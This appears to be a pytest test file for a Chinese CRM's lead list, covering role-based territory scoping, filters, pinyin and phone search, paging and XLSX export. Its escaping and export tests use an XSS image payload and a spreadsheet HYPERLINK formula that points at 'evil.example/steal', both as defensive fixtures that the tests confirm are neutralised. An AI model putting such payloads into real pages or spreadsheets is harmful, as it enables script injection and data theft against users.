"""The lead list: territory scoping, every filter, search by name, pinyin initials and phone,
the XLSX export, and a page that costs the same number of queries for 10 rows as for 100."""

from __future__ import annotations

import itertools
import re
from datetime import date
from io import BytesIO

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from crm.access.roles import Role
from crm.auth.models import User
from crm.extensions import db
from crm.leads.models import Campaign, Channel, Lead
from crm.leads.services import ContactInput, create_lead
from crm.territories.models import Territory
from crm.workflow import engine
from tests.helpers import counted_queries, login

_names = itertools.count(1)


def gen_campaign(app, *, name: str | None = None, channel: Channel = Channel.TRADE_SHOW) -> int:
    with app.app_context():
        campaign = Campaign(name=name or f"测试招商会{next(_names)}", channel=channel)
        db.session.add(campaign)
        db.session.commit()
        return campaign.id


def gen_lead(
    app,
    actor_id: int,
    campaign_id: int,
    *,
    name: str | None = None,
    territory: str = "440305",
    phones=(),
    owner_id: int | None = None,
    next_touch_on: date | None = None,
    events=(),
    sla_status: str | None = None,
    in_pool: bool = False,
    event_actor_id: int | None = None,
) -> int:
    """A lead built through ``create_lead`` (and the engine for ``events``), as real users would."""
    with app.app_context():
        actor = db.session.get(User, actor_id)
        lead = create_lead(
            actor,
            company_name=name or f"测试医药{next(_names)}有限公司",
            territory_code=territory,
            campaign_id=campaign_id,
            contacts=[ContactInput("张经理", phones=list(phones))] if phones else [],
            next_touch_on=next_touch_on,
            owner_id=owner_id,
            allow_duplicate=True,
        )
        mover = db.session.get(User, event_actor_id or actor_id)
        for name_ in events:
            engine.apply_event(lead, name_, mover, seen_version=lead.version, comment="测试")
        db.session.flush()
        values = {}
        if sla_status is not None:
            values["sla_status"] = sla_status
        if in_pool:
            values.update(in_pool=True, assignee_id=None)
        if values:
            db.session.execute(update(Lead).where(Lead.id == lead.id).values(**values))
        db.session.commit()
        return lead.id


@pytest.fixture
def people(make_user):
    return {
        "admin": make_user(Role.ADMIN),
        "manager": make_user(Role.MANAGER, territories=["440000"]),
        "rep": make_user(Role.REP, territories=["440300"]),
        "other_rep": make_user(Role.REP, territories=["440100"]),
        "beijing_rep": make_user(Role.REP, territories=["110000"]),
        "service": make_user(Role.SERVICE),
        "distributor": make_user(Role.DISTRIBUTOR),
    }


def signed_in(app, user, locale: str | None = None):
    client = app.test_client()
    assert login(client, user).status_code == 302
    if locale:
        with client.session_transaction() as session:
            session["locale"] = locale
    return client


def listed_ids(response) -> set[int]:
    assert response.status_code == 200, response.status_code
    return {int(m) for m in re.findall(r'data-lead="(\d+)"', response.get_data(as_text=True))}


@pytest.fixture
def leads(app, people):
    """Leads in 南山 (the rep's), 广州 (another rep's) and 北京 (outside Guangdong)."""
    admin = people["admin"].id
    show = gen_campaign(app, name="2026 成都药交会", channel=Channel.TRADE_SHOW)
    web = gen_campaign(app, name="官网留言", channel=Channel.WEB)
    return {
        "show": show,
        "web": web,
        "nanshan": gen_lead(
            app,
            admin,
            show,
            name="深圳南山康泰医药有限公司",
            territory="440305",
            owner_id=people["rep"].id,
            phones=["138 0013 8000"],
            next_touch_on=date(2026, 1, 5),
            sla_status="breached",
        ),
        "futian": gen_lead(
            app,
            admin,
            web,
            name="深圳福田百草堂药业有限公司",
            territory="440304",
            owner_id=people["rep"].id,
            events=["contact"],
            event_actor_id=people["manager"].id,
        ),
        "pool": gen_lead(app, admin, web, name="宝安公海医药有限公司", territory="440306", in_pool=True),
        "guangzhou": gen_lead(
            app,
            admin,
            show,
            name="广州越秀医药有限公司",
            territory="440104",
            owner_id=people["other_rep"].id,
            sla_status="warning",
        ),
        "beijing": gen_lead(
            app,
            admin,
            show,
            name="北京同仁堂医药有限公司",
            territory="110101",
            owner_id=people["beijing_rep"].id,
            phones=["010-6524 1234"],
        ),
    }


@pytest.mark.parametrize(
    ("who", "visible"),
    [
        ("rep", {"nanshan", "futian", "pool"}),
        ("other_rep", {"guangzhou"}),
        ("manager", {"nanshan", "futian", "pool", "guangzhou"}),
        ("admin", {"nanshan", "futian", "pool", "guangzhou", "beijing"}),
        ("service", {"nanshan", "futian", "pool", "guangzhou", "beijing"}),
    ],
)
def test_each_role_sees_the_leads_of_its_territories(app, people, leads, who, visible):
    response = signed_in(app, people[who]).get("/leads/")
    assert listed_ids(response) == {leads[k] for k in visible}


def test_the_portal_has_no_lead_list(app, people):
    client = signed_in(app, people["distributor"])
    assert client.get("/leads/").status_code == 403
    assert client.get("/leads/export.xlsx").status_code == 403


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        ({"state": "contacted"}, {"futian"}),
        ({"state": "new"}, {"nanshan", "pool", "guangzhou"}),
        ({"state": "no-such-state"}, {"nanshan", "futian", "pool", "guangzhou"}),
        ({"territory": "440300"}, {"nanshan", "futian", "pool"}),
        ({"territory": "440305"}, {"nanshan"}),
        ({"territory": "110000"}, set()),  # a filter narrows the reach, never widens it
        ({"channel": "web"}, {"futian", "pool"}),
        ({"sla": "breached"}, {"nanshan"}),
        ({"sla": "warning"}, {"guangzhou"}),
        ({"pool": "1"}, {"pool"}),
        ({"pool": "0"}, {"nanshan", "futian", "guangzhou"}),
        ({"state": "new", "territory": "440300", "pool": "0"}, {"nanshan"}),
    ],
)
def test_filters(app, people, leads, args, expected):
    response = signed_in(app, people["manager"]).get("/leads/", query_string=args)
    assert listed_ids(response) == {leads[k] for k in expected}


def test_filter_by_owner_and_campaign(app, people, leads):
    client = signed_in(app, people["manager"])
    assert listed_ids(client.get(f"/leads/?owner={people['other_rep'].id}")) == {leads["guangzhou"]}
    assert listed_ids(client.get(f"/leads/?campaign={leads['web']}")) == {leads["futian"], leads["pool"]}
    assert listed_ids(client.get("/leads/?owner=abc")) == {leads[k] for k in ("nanshan", "futian", "pool", "guangzhou")}


def owner_menu(client, q: str = "") -> set[int]:
    response = client.get("/leads/filters/owners", query_string={"q": q})
    assert response.status_code == 200, response.status_code
    return {option["id"] for option in response.get_json()["results"]}


def chosen_option(response, menu: str) -> tuple[str, str] | None:
    """(value, label) of the option shown selected in the list's ``menu`` select."""
    html = response.get_data(as_text=True)
    select = re.search(rf'<select[^>]*name="{menu}".*?</select>', html, re.S).group(0)
    found = re.search(r'<option value="([^"]+)" selected>([^<]*)</option>', select)
    return found.groups() if found else None


def test_owner_and_campaign_menus_load_from_the_server_within_the_reach(app, people, leads):
    manager, rep = signed_in(app, people["manager"], "en"), signed_in(app, people["rep"], "en")
    assert owner_menu(manager) == {people[k].id for k in ("manager", "rep", "other_rep")}
    assert owner_menu(rep) == {people["rep"].id}
    other_name = f"测试{people['other_rep'].username}"  # gen_user's display name
    assert owner_menu(manager, other_name) == {people["other_rep"].id}
    assert owner_menu(rep, other_name) == set()  # outside the rep's reach
    me = manager.get("/leads/filters/owners").get_json()["results"]
    assert f"测试{people['manager'].username} (me)" in {option["name"] for option in me}

    campaigns = rep.get("/leads/filters/campaigns", query_string={"q": "药交"}).get_json()["results"]
    assert campaigns == [{"id": leads["show"], "name": "2026 成都药交会"}]
    assert len(rep.get("/leads/filters/campaigns").get_json()["results"]) >= 2


def test_a_chosen_owner_or_campaign_shows_its_name_without_loading_the_menu(app, people, leads):
    manager = signed_in(app, people["manager"], "en")
    response = manager.get(f"/leads/?owner={people['other_rep'].id}&campaign={leads['web']}")
    other_name = f"测试{people['other_rep'].username}"  # gen_user's display name
    assert chosen_option(response, "owner") == (str(people["other_rep"].id), other_name)
    assert chosen_option(response, "campaign") == (str(leads["web"]), "官网留言")
    mine = manager.get(f"/leads/?owner={people['manager'].id}")
    assert chosen_option(mine, "owner") == (str(people["manager"].id), f"测试{people['manager'].username} (me)")
    # An owner outside the reach is no option: the menu shows nobody chosen (and the list is empty).
    rep = signed_in(app, people["rep"])
    response = rep.get(f"/leads/?owner={people['other_rep'].id}")
    assert chosen_option(response, "owner") is None
    assert listed_ids(response) == set()


def test_pages_built_once_still_follow_each_user_and_a_change_of_territories(app, people, leads):
    """Page statements and menus are built once per reach: users in turn each see their own, and a
    rep moved to another city sees that city's leads and reps on the next page."""
    rep, other = signed_in(app, people["rep"]), signed_in(app, people["other_rep"])
    for _ in range(2):
        assert listed_ids(rep.get("/leads/")) == {leads[k] for k in ("nanshan", "futian", "pool")}
        assert listed_ids(other.get("/leads/?page=1")) == {leads["guangzhou"]}
        assert listed_ids(rep.get("/leads/?state=new")) == {leads["nanshan"], leads["pool"]}
        assert listed_ids(other.get("/leads/?state=new")) == {leads["guangzhou"]}
    assert owner_menu(rep) == {people["rep"].id}
    with app.app_context():
        moved = db.session.get(User, people["rep"].id)
        moved.territories = [db.session.get(Territory, "440100")]
        db.session.commit()
    assert listed_ids(rep.get("/leads/")) == {leads["guangzhou"]}
    assert owner_menu(rep) == {people["rep"].id, people["other_rep"].id}


@pytest.mark.parametrize(
    ("q", "expected"),
    [
        ("bjtr", {"beijing"}),
        ("BJTR", {"beijing"}),
        ("同仁堂", {"beijing"}),
        ("szns", {"nanshan"}),
        ("138 0013", {"nanshan"}),
        ("１３８００１３８０００", {"nanshan"}),  # full-width digits
        ("+86 138-0013-8000", {"nanshan"}),
        ("6524 1234", {"beijing"}),
        ("不存在的公司", set()),
    ],
)
def test_search_by_name_initials_and_phone(app, people, leads, q, expected):
    response = signed_in(app, people["admin"]).get("/leads/", query_string={"q": q})
    assert listed_ids(response) == {leads[k] for k in expected}


def test_a_province_manager_searches_within_the_province(app, people, leads):
    client = signed_in(app, people["manager"])
    assert listed_ids(client.get("/leads/", query_string={"q": "szns"})) == {leads["nanshan"]}
    assert listed_ids(client.get("/leads/", query_string={"q": "bjtr"})) == set()
    assert listed_ids(client.get("/leads/", query_string={"q": "医药", "state": "new"})) == {
        leads["nanshan"],
        leads["pool"],
        leads["guangzhou"],
    }


def test_search_stays_inside_the_reach(app, people, leads):
    response = signed_in(app, people["rep"]).get("/leads/", query_string={"q": "bjtr"})
    assert listed_ids(response) == set()


def test_rows_show_what_a_rep_needs_and_link_to_the_lead(app, people, leads):
    html = signed_in(app, people["rep"]).get("/leads/?q=szns").get_data(as_text=True)
    assert "深圳南山康泰医药有限公司" in html
    assert "广东省 深圳市 南山区" in html
    assert "2026-01-05" in html
    assert "2026 成都药交会" in html
    assert 'data-sla="breached"' in html
    with app.test_request_context():
        from crm.leads.views_list import lead_url_builder

        assert f'href="{lead_url_builder()(leads["nanshan"])}"' in html


def test_each_row_names_its_owner_or_the_pool_its_state_and_its_deadline(app, people, leads):
    html = signed_in(app, people["manager"], "en").get("/leads/").get_data(as_text=True)

    def row(key):
        return re.search(rf'<tr[^>]*data-lead="{leads[key]}".*?</tr>', html, re.S).group(0)

    with app.app_context():
        rep_name = db.session.get(User, people["rep"].id).display_name
    assert rep_name in row("nanshan")
    assert "In the pool" in row("pool")
    assert "In the pool" not in row("nanshan")
    assert ">Contacted<" in row("futian")
    assert 'data-sla="breached"' in row("nanshan")
    assert "Overdue" in row("nanshan")
    assert "Due soon" in row("guangzhou") or "left<" in row("guangzhou")
    assert "深圳福田百草堂药业有限公司" in row("futian")
    assert "官网留言" in row("futian")


def test_markup_typed_into_a_lead_its_campaign_or_a_name_shows_as_text(app, people):
    """The rows escape by hand (see _rows.html): every free-text column must still come out as text."""
    markup = '<img src=x onerror="alert(1)">'
    with app.app_context():
        owner = db.session.get(User, people["rep"].id)
        owner.display_name = f"王{markup}"
        db.session.commit()
    campaign = gen_campaign(app, name=f"药交会{markup}")
    lead = gen_lead(app, people["admin"].id, campaign, name=f"康泰{markup}医药", owner_id=people["rep"].id)
    html = signed_in(app, people["manager"]).get("/leads/").get_data(as_text=True)
    row = re.search(rf'<tr[^>]*data-lead="{lead}".*?</tr>', html, re.S).group(0)
    assert "<img" not in row
    escaped = "&lt;img src=x onerror=&#34;alert(1)&#34;&gt;"
    assert f"康泰{escaped}医药" in row
    assert f"药交会{escaped}" in row
    assert f"王{escaped}" in row


def test_labels_kept_per_language_follow_each_switch_of_language(app, people, leads):
    # States, channels and deadline badges are translated once per catalog and kept:
    # the same worker serves both languages, one after the other, without mixing them.
    client = signed_in(app, people["manager"])
    for locale, lang, state, channel, overdue in (
        ("zh_CN", 'lang="zh-CN"', ">已联系<", ">参展<", "超时"),
        ("en", 'lang="en"', ">Contacted<", ">Trade show<", "Overdue"),
        ("zh_CN", 'lang="zh-CN"', ">已联系<", ">参展<", "超时"),
    ):
        with client.session_transaction() as session:
            session["locale"] = locale
        html = client.get("/leads/").get_data(as_text=True)
        assert lang in html
        assert state in html
        assert channel in html
        assert overdue in html


def test_paging_keeps_the_filters(app, people):
    campaign = gen_campaign(app)
    for _ in range(12):
        gen_lead(app, people["admin"].id, campaign, territory="440305", owner_id=people["rep"].id)
    client = signed_in(app, people["rep"])
    first = client.get("/leads/?size=10&territory=440305")
    assert len(listed_ids(first)) == 10
    assert "territory=440305" in first.get_data(as_text=True)
    second = client.get("/leads/?size=10&territory=440305&page=2")
    assert len(listed_ids(second)) == 2
    assert not listed_ids(first) & listed_ids(second)


def test_a_page_of_100_costs_the_same_queries_as_a_page_of_10(app, people):
    show, web = gen_campaign(app), gen_campaign(app, channel=Channel.WEB)
    reps = [people["rep"].id, people["manager"].id, None]
    for n in range(110):
        gen_lead(
            app,
            people["admin"].id,
            (show, web)[n % 2],
            territory=("440305", "440304", "440306")[n % 3],
            owner_id=reps[n % 3],
            in_pool=reps[n % 3] is None,
            phones=[f"1380013{n:04d}"],
        )
    client = signed_in(app, people["manager"])
    client.get("/leads/?size=10")  # warm up: first-request work is not the page's
    counts = {}
    for size in (10, 100):
        with counted_queries(app) as statements:
            response = client.get(f"/leads/?size={size}&q=")
        assert len(listed_ids(response)) == size
        counts[size] = len(statements)
    assert counts[10] == counts[100], counts


def _export(client, query: str = ""):
    response = client.get(f"/leads/export.xlsx{query}")
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(BytesIO(response.data), read_only=True).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_export_holds_the_filtered_list_with_readable_values(app, people, leads):
    rows = _export(signed_in(app, people["admin"], "en"), "?q=bjtr")
    header, *body = rows
    assert header[:5] == ["Company name", "Unified social credit code", "Territory", "State", "Owner"]
    assert "Phones" in header
    assert "Created on" in header
    assert len(body) == 1
    record = dict(zip(header, body[0], strict=True))
    assert record["Company name"] == "北京同仁堂医药有限公司"
    assert record["Territory"] == "北京市 东城区"
    assert record["State"] == "New"
    assert record["Phones"] == "010 6524 1234"
    assert record["Campaign"] == "2026 成都药交会"
    assert record["Contacts"] == "张经理"
    assert record["Created on"] is not None


FORMULAS = {
    "company": '=HYPERLINK("http://evil.example/steal","click")',
    "contact": "=1+1",
    "campaign": "@SUM(A1:A9)",
}


def test_export_writes_names_that_look_like_formulas_as_text(app, people):
    campaign = gen_campaign(app, name=FORMULAS["campaign"])
    with app.app_context():
        actor = db.session.get(User, people["admin"].id)
        create_lead(
            actor,
            company_name=FORMULAS["company"],
            territory_code="440305",
            campaign_id=campaign,
            contacts=[ContactInput(FORMULAS["contact"], phones=["13800138000"])],
            next_touch_on=date(2026, 12, 24),
        )
        create_lead(
            actor,
            company_name="-减号开头医药",
            territory_code="440305",
            campaign_id=campaign,
            contacts=[ContactInput("+加号 先生"), ContactInput("@王经理")],
        )
        db.session.commit()
    response = signed_in(app, people["admin"], "en").get("/leads/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.data)).active  # not read-only: the cells' types are kept
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    header = [cell.value for cell in next(sheet.iter_rows())]
    rows = {row[0].value: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)}
    lead = rows[FORMULAS["company"]]
    assert lead["Contacts"].value == FORMULAS["contact"]
    assert lead["Campaign"].value == FORMULAS["campaign"]
    assert lead["Company name"].data_type == "s"
    other = rows["-减号开头医药"]
    assert other["Contacts"].value == "+加号 先生、@王经理"
    # Numbers and dates stay numbers and dates.
    assert lead["Next touch"].is_date
    assert lead["Next touch"].value.date() == date(2026, 12, 24)
    assert lead["Created on"].is_date


def test_export_of_a_rep_holds_only_their_territories(app, people, leads):
    rows = _export(signed_in(app, people["rep"]))
    names = {row[0] for row in rows[1:]}
    assert names == {"深圳南山康泰医药有限公司", "深圳福田百草堂药业有限公司", "宝安公海医药有限公司"}


def test_export_headers_in_chinese(app, people, leads):
    header = _export(signed_in(app, people["admin"], "zh_CN"))[0]
    assert len(header) == 12
    assert header[:3] == ["公司名称", "统一社会信用代码", "区域"]


def test_export_above_the_cap_asks_to_narrow_the_filters(app, people, leads):
    app.config["EXPORT_MAX_ROWS"] = 2
    try:
        client = signed_in(app, people["admin"])
        response = client.get("/leads/export.xlsx?channel=trade_show")
        assert response.status_code == 303
        assert "channel=trade_show" in response.headers["Location"]
        assert _export(client, "?channel=web")[1:]  # two rows: under the cap
    finally:
        app.config["EXPORT_MAX_ROWS"] = 50_000


def test_a_large_list_counts_up_to_a_limit_and_still_pages_newest_first(app, people, monkeypatch):
    from crm.leads import queries

    monkeypatch.setattr(queries, "COUNT_LIMIT", 5)
    campaign = gen_campaign(app)
    ids = sorted((gen_lead(app, people["admin"].id, campaign, territory="440305") for _ in range(25)), reverse=True)
    gen_lead(app, people["admin"].id, campaign, territory="110101")  # outside the manager's reach
    client = signed_in(app, people["manager"], "en")

    def shown(response):
        assert response.status_code == 200
        return [int(m) for m in re.findall(r'data-lead="(\d+)"', response.get_data(as_text=True))]

    first = client.get("/leads/?size=10&territory=440000")
    assert "More than 20" in first.get_data(as_text=True)  # counted two pages ahead: enough for "Next"
    assert shown(first) == ids[:10]
    second = client.get("/leads/?size=10&page=2&territory=440000")
    assert "25 in total" in second.get_data(as_text=True)
    assert shown(second) == ids[10:20]
    assert shown(client.get("/leads/?size=10&page=3&territory=440000")) == ids[20:]
    past_the_end = client.get("/leads/?size=10&page=9&territory=440000")  # no row to carry the count
    assert shown(past_the_end) == []
    assert "25 in total" in past_the_end.get_data(as_text=True)


@pytest.mark.parametrize(("role", "shown"), [(Role.REP, True), (Role.MANAGER, True), (Role.SERVICE, False)])
def test_the_list_offers_import_to_the_roles_that_may_import(app, make_user, role, shown):
    client = app.test_client()
    user = make_user(role, territories=["440300"] if role in (Role.REP, Role.MANAGER) else ())
    login(client, user)
    page = client.get("/leads/").get_data(as_text=True)
    assert ('href="/leads/import"' in page) is shown
